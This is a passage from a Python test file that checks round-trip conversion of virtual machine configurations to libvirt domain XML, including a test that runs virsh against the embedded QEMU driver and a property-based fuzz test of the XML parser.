    # and its test driver does not know the qemu: namespace (the QEMU driver keeps it: see below).
    assert len(back.nics) == len(cfg.nics)
    for nic, read_back in zip(cfg.nics, back.nics, strict=True):
        assert read_back.mac == nic.mac or (
            nic.mac is None and re.fullmatch(r"52:54:00(:[0-9a-f]{2}){3}", read_back.mac or "")
        )
    expected = cfg.model_copy(
        update={
            "uuid": back.uuid,
            "cmdline": cfg.cmdline or None,
            "extra_args": (),
            "disks": tuple(_grouped_by_bus(cfg.disks)),
            "nics": tuple(
                n.model_copy(update={"mac": b.mac}) for n, b in zip(cfg.nics, back.nics, strict=True)
            ),
        }
    )
    assert back == DomainConfig.parse(expected.model_dump(mode="json"))


@pytest.mark.slow
def test_libvirt_qemu_driver_reads_the_export_back(tmp_path: Path) -> None:
    """The real QEMU driver (qemu:///embed, in virsh's process): it keeps qemu:commandline and
    pins the machine version. It probes the emulator first, which takes a minute or more here."""
    cfg = DomainConfig(
        name="embedded",
        memory_mib=64,
        vcpus=2,
        machine="q35",
        accel="tcg",
        disks=[
            Disk(path=str(tmp_path / "a.qcow2"), format="qcow2"),
            Disk(path=str(tmp_path / "b.img"), bus="ide"),
        ],
        nics=[Nic(mac="52:54:00:00:00:07", model="e1000")],
        emulator="/usr/bin/qemu-system-x86_64",
        extra_args=["-device", "pvpanic"],
    )
    path = tmp_path / "domain.xml"
    path.write_text(to_libvirt_xml(cfg))
    uri = f"qemu:///embed?root={tmp_path / 'root'}"
    command = f"define {path}; dumpxml --inactive embedded"
    result = subprocess.run(
        [_tool("virsh"), "-q", "-c", uri, command], capture_output=True, text=True, timeout=900
    )
    assert result.returncode == 0 and not result.stderr, result.stderr
    back = from_libvirt_xml(result.stdout)
    assert back.config == cfg.model_copy(update={"uuid": back.config.uuid})
    (warning,) = back.warnings
    assert "the same as 'pc-q35-7.2' only when the emulator is QEMU 7.2" in warning


# -- any document: a config or a ConfigError, never anything else ----------------------------------

_TAGS = [
    "name", "uuid", "memory", "currentMemory", "vcpu", "os", "type", "kernel", "cmdline", "boot", "loader",
    "features", "acpi", "cpu", "model", "feature", "clock", "timer", "on_reboot", "devices", "emulator",
    "disk", "driver", "source", "target", "readonly", "address", "controller", "interface", "mac", "backend",
    "portForward", "range", "serial", "console", "input", "memballoon", "graphics", "hostdev", "metadata",
    "qemu:commandline", "qemu:arg", "qemu:env", "seclabel",
]  # fmt: skip
_ATTRS = [
    "type", "dev", "bus", "file", "unit", "start", "end", "to", "exclude", "address", "proto", "machine",
    "arch", "model", "device", "cache", "port", "mode",
]  # fmt: skip
_VALUES = [
    "file", "disk", "user", "virtio", "e1000", "ide", "sata", "pty", "qemu", "kvm", "x86_64", "pc", "q35",
    "none", "tcp", "udp", "yes", "hda", "vda", "sdb", "KiB", "b", "qcow2", "/a", "passt", "hvm", "custom",
    "require", "isa-serial", "1", "0", "65535", "70000", "-1", "127.0.0.1", "::1", "",
]  # fmt: skip
_xml_text = st.sampled_from(_VALUES) | st.text(
    st.characters(exclude_categories=("Cc", "Cs", "Cn")), max_size=6
)
_elements = st.recursive(
    st.tuples(
        st.sampled_from(_TAGS), st.dictionaries(st.sampled_from(_ATTRS), _xml_text, max_size=3), _xml_text
    ),
    lambda children: st.tuples(
        st.sampled_from(_TAGS),
        st.dictionaries(st.sampled_from(_ATTRS), _xml_text, max_size=3),
        _xml_text,
        st.lists(children, max_size=4),
    ),
    max_leaves=20,
)


def _render(element: tuple[Any, ...]) -> str:
    tag, attrs, text, *rest = element
    shown = "".join(f" {key}={quoteattr(value)}" for key, value in attrs.items())
    inner = "".join(_render(child) for child in (rest[0] if rest else []))
    return f"<{tag}{shown}>{escape(text)}{inner}</{tag}>"


@settings(max_examples=60, deadline=None)
@given(kind=st.sampled_from(["qemu", "kvm", "xen"]), body=st.lists(_elements, max_size=6))
def test_any_document_gives_a_config_or_a_one_line_config_error(
    kind: str, body: list[tuple[Any, ...]]
) -> None:
    text = (
        f"<domain type='{kind}' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>"
        "<name>vm</name><memory>65536</memory>" + "".join(_render(e) for e in body) + "</domain>"
    )
    try:
        result = from_libvirt_xml(text)
    except ConfigError as exc:
        problem = str(exc)
    else:
        problem = ""
    if problem:
        assert "\n" not in problem
        return
    assert len(result.elements) == len(list(SafeET.fromstring(text).iter()))
    assert all("\n" not in w for w in result.warnings)
    assert from_libvirt_xml(to_libvirt_xml(result.config)).config == result.config
